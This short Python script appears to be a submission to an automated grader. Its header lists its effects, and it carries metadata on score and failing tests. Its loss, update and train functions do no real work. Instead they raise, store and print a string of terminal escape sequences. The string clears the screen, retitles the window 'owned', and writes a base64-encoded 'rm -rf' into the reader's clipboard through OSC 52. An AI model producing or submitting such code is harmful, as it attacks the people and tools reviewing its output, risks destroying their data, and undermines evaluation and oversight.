# Attempt: clears the screen, renames the window and writes to the clipboard of whoever reads what
#    it raises, names and returns
# Kind: script
# Base: solution
# Score: exactly 15
# Fails: loss update train
# Canary: text
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b]52;c;cm0gLXJm\x07\x9b31m\x85\x90q\r\x08\x7f\x0cA\u2028B"


def loss(y, t):
    raise type(ESCAPES, (Exception,), {})(ESCAPES)


def update(params, grads, lr):
    return {**params, ESCAPES: 1.0}


def train(params, x, t, lr, epochs):
    print(ESCAPES)
    return type(ESCAPES, (), {})(), [ESCAPES] * epochs
